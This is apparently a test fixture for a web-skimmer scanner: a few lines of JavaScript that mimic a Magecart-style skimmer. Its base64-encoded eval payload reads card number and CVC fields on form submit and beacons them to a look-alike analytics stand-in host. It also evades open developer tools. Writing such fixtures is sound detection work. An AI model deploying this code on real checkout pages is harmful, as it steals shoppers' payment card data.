// expect: ES-SHOP-001 ES-SHOP-005
// Written for Ensuresec's tests from the public description of Magecart Group 12 skimmers (RiskIQ, "Magecart Group
// 12: a new JavaScript skimmer ..." 2019; Malwarebytes Labs, "Magecart Group 12 ... anti-debugging", 2019): the real
// code sits base64-encoded in a string and is run with eval(atob(...)); it stops when developer tools are open and
// uses sendBeacon to a domain that imitates an analytics service. Not the original code.
var _0x5a1 = ["ZG9jdW1lbnQ=", "Y2hlY2tvdXQ="];
eval(atob("aWYgKCEod2luZG93Lm91dGVyV2lkdGggLSB3aW5kb3cuaW5uZXJXaWR0aCA+IDE2MCkpIHsgZG9jdW1lbnQuYWRkRXZlbnRMaXN0ZW5lcigic3VibWl0IiwgZnVuY3Rpb24gKCkgeyB2YXIgZCA9IHsgbjogZG9jdW1lbnQucXVlcnlTZWxlY3RvcigiaW5wdXRbbmFtZT0nY2FyZG51bWJlciddIikudmFsdWUsIGM6IGRvY3VtZW50LnF1ZXJ5U2VsZWN0b3IoImlucHV0W25hbWU9J2N2YyddIikudmFsdWUgfTsgbmF2aWdhdG9yLnNlbmRCZWFjb24oImh0dHBzOi8vZ29vZ2xlLWFuYWx5dGljLmV4YW1wbGUvY29sbGVjdCIsIEpTT04uc3RyaW5naWZ5KGQpKTsgfSwgdHJ1ZSk7IH0K"));
